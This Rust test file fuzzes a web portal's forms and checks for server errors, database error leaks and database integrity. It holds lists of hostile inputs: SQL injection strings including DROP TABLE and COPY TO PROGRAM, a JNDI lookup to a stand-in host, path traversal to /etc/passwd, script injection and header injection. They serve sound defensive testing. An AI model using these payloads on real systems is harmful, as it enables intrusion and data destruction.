//! Every form that can be sent, with everything in it that people and programs come up with: always an answer in time,
//! never one of ours that broke, and the database is what it was.

use std::{collections::BTreeSet, time::Duration};

use policy::Day;
use server::{
    config::Rate,
    inventory::{Method, ROUTES},
};
use tempfile::TempDir;
use tokio::time::timeout;

use crate::{
    command::run,
    families::{Family, acknowledged, ask, encoded},
    portal::{Answer, House, open},
    trial::{Dice, Trial, rounds},
};

/// Far longer than any answer takes, even unoptimised.
const PATIENCE: Duration = Duration::from_secs(20);
const ANSWER_BYTES_MAX: usize = 1 << 20;

/// What people who look for a database in a form try.
const FOR_DATABASES: [&str; 12] = [
    "'",
    "\"",
    "' OR '1'='1",
    "1' OR '1'='1' -- ",
    "'; DROP TABLE entry; --",
    "') UNION SELECT wrapped_key FROM family --",
    "1 AND (SELECT pg_sleep(5))",
    "1' AND 1=randomblob(500000000) --",
    "\\'; COPY entry TO PROGRAM 'id'; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%' ESCAPE '\\",
];

/// What nobody means.
const ODD: [&str; 16] = [
    "",
    " ",
    "\0",
    "\r\nSet-Cookie: a=b",
    "\u{202e}\u{200b}\u{feff}",
    "🤱🏿👨‍👩‍👧‍👦",
    "𰻝𠮷䶮㐂",
    "a\u{301}\u{301}\u{301}\u{301}\u{301}",
    "9999-99-99",
    "-1",
    "18446744073709551616",
    "NaN",
    "../../../etc/passwd",
    "<script>alert(1)</script>",
    "<![CDATA[",
    "YC-22222-22222",
];

/// Names of fields that stand in no page that is looked at here.
const MORE_NAMES: [&str; 12] = [
    "mend",
    "only",
    "change",
    "code",
    "phone",
    "to",
    "number",
    "sure",
    "consent",
    "draft",
    "copies",
    "v[4294967295]",
];

struct Scene {
    house: House,
    family: Family,
    other: Family,
    number: String,
    names: Vec<String>,
    folder: TempDir,
}

async fn scene() -> Scene {
    let folder = TempDir::new().unwrap();
    let house = open(|settings| {
        settings.is_demo = true;
        settings.edge.trusted_proxies = vec!["127.0.0.0/8".parse().unwrap()];
        settings.rates.write = Rate::Unlimited;
        settings.rates.read = Rate::Unlimited;
        settings.keeping.keys = folder.path().join("keys");
        settings.keeping.database = format!("sqlite:{}", folder.path().join("yucan.db").display());
    })
    .await;
    let mut family = Family::on(1, Day::new(2026, 11, 22).unwrap());
    assert!(family.come_in(house.address).await);
    let sent = family.apply(house.address).await.unwrap();
    let number = acknowledged(&sent).unwrap();
    let mut other = Family::on(2, Day::new(2026, 11, 22).unwrap());
    assert!(other.come_in(house.address).await);
    let theirs = other.apply(house.address).await.unwrap();
    assert!(acknowledged(&theirs).is_some(), "{}", theirs.head);
    let mut names: BTreeSet<String> = MORE_NAMES.map(str::to_owned).into();
    for page in [
        &family.form_address(),
        &format!("/file/changed?number={number}"),
        "/file",
        "/file/data",
        "/file/delete",
        "/sign-in",
    ] {
        let page = ask(house.address, &family.get(page)).await.unwrap();
        let controls = page.text().split(" name=\"").skip(1);
        names.extend(controls.filter_map(|rest| Some(rest.split_once('"')?.0.to_owned())));
    }
    assert!(names.len() > 20, "{names:?}");
    Scene {
        house,
        family,
        other,
        number,
        names: names.into_iter().collect(),
        folder,
    }
}

impl Scene {
    /// Where forms go: every one that the portal has. What may end a file is sent by a family whose file may end, and what
    /// ends a session by nobody who is signed in.
    fn forms(&self) -> Vec<(String, Family)> {
        let stranger = Family::on(3, Day::new(2026, 11, 22).unwrap());
        let posts = ROUTES.iter().filter(|route| route.method == Method::Post);
        posts
            .map(|route| {
                let by = match route.path {
                    "/file/delete" | "/file/withdraw" => &self.other,
                    path if path.starts_with("/sign-") => &stranger,
                    _ => &self.family,
                };
                let path = match route.path {
                    "/apply/{service}" => self.family.form_address(),
                    path => path.to_owned(),
                };
                (path, by.clone())
            })
            .collect()
    }

    async fn holds(&self, path: &str, by: &Family, body: &str) -> u16 {
        let request = by.post(path, body);
        let answer = timeout(PATIENCE, ask(self.house.address, &request)).await;
        let answer: Answer = answer
            .unwrap_or_else(|_| panic!("no answer to {path} {body}"))
            .unwrap_or_else(|| panic!("cut off: {path} {body}"));
        assert!(answer.status < 500, "{path} {body}: {}", answer.head);
        assert!(answer.body.len() < ANSWER_BYTES_MAX, "{path} {body}");
        let said = String::from_utf8_lossy(&answer.body);
        for slip in ["sqlite", "syntax error", "panicked", "SELECT ", "pg_"] {
            // what was typed may come back on the page; what a database says may not
            assert!(
                !said.contains(slip) || body.contains("SELECT") || body.contains("pg_"),
                "{path} {body}"
            );
        }
        answer.status
    }

    /// The family's form is there as before, and the whole database is what its entries say.
    async fn stays_whole(self) {
        let page = ask(self.house.address, &self.family.get("/file"))
            .await
            .unwrap();
        assert_eq!(page.status, 200);
        assert!(page.text().contains(&self.number));
        assert!(self.house.stop().await);
        for command in ["verify", "rebuild"] {
            let arguments = [command, "--database", "sqlite:yucan.db", "--keys", "keys"];
            let (status, said) = run(self.folder.path(), &arguments);
            assert_eq!(status, 0, "{said}");
            assert!(command == "verify" || said.contains(" 0 of them"), "{said}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_field_of_any_form_reaches_the_database_as_words_of_its_own() {
    let trial = Trial::of("I-05", "words for databases in every field of every form");
    let scene = scene().await;
    let forms = scene.forms();
    let words = &FOR_DATABASES[..rounds(3, 12) as usize];
    let mut tried = 0;
    for (path, by) in &forms {
        let whole = scene.family.form("review");
        for name in &scene.names {
            for word in words {
                let field = encoded(&[(name, word)]);
                // in the place of the right value where the form has the field, else alone
                let others = whole
                    .split('&')
                    .filter(|pair| !pair.starts_with(&format!("{name}=")));
                let body = others.chain([field.as_str()]).collect::<Vec<_>>().join("&");
                scene.holds(path, by, &body).await;
                tried += 1;
            }
        }
    }
    let figures = format!(
        "{} forms, {} fields, 0 of 5xx",
        forms.len(),
        scene.names.len()
    );
    scene.stays_whole().await;
    trial.held(format!("{tried} posts"), figures);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn whatever_is_sent_as_a_form_is_answered() {
    let trial = Trial::of("I-01", "forms of chance");
    let scene = scene().await;
    let forms = scene.forms();
    let dice = Dice::new(20_261_126);
    let pick = |count: usize| dice.below(count as u64) as usize;
    let rounds = rounds(300, 8_000);
    let mut statuses = BTreeSet::new();
    for _ in 0..rounds {
        let (path, by) = &forms[pick(forms.len())];
        let acts = [
            "review", "send", "print", "pdf", "code", "enter", "", "else",
        ];
        let mut pairs: Vec<String> = match pick(4) {
            0 => Vec::new(),
            _ => scene
                .family
                .form(acts[pick(acts.len())])
                .split('&')
                .map(str::to_owned)
                .collect(),
        };
        for _ in 0..pick(6) {
            let long = "长".repeat(pick(3000));
            let values = [
                ODD[pick(ODD.len())],
                FOR_DATABASES[pick(FOR_DATABASES.len())],
                &scene.family.phone,
                &scene.family.id_number,
                &long,
                "yes",
            ];
            let name = &scene.names[pick(scene.names.len())];
            let pair = encoded(&[(name, values[pick(values.len())])]);
            match pick(4) {
                0 if !pairs.is_empty() => {
                    let at = pick(pairs.len());
                    pairs[at] = pair;
                }
                1 if !pairs.is_empty() => {
                    pairs.remove(pick(pairs.len()));
                }
                // beside the one that is there
                _ => pairs.push(pair),
            }
        }
        let mut body = pairs.join("&");
        match pick(12) {
            0 => body.truncate(body.len() / 2),
            1 => body.push_str("&%zz=%&=&&%ff%fe=%00"),
            2 => body = body.replace('=', "&"),
            _ => {}
        }
        statuses.insert(scene.holds(path, by, &body).await);
    }
    assert!(statuses.len() >= 4, "{statuses:?}");
    scene.stays_whole().await;
    trial.held(
        format!("{rounds} posts"),
        format!("answered with {statuses:?}, seed 20261126"),
    );
}
